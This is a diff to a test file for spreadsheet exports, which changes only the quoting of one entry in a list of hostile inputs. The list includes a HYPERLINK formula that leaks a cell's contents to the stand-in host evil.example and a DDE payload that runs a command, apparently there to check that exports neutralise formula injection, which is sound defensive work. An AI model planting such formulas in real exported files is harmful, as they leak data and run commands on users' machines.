@@ -15,7 +15,7 @@ from tests.exports.factories import make_job
 pytestmark = pytest.mark.django_db
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,1)",
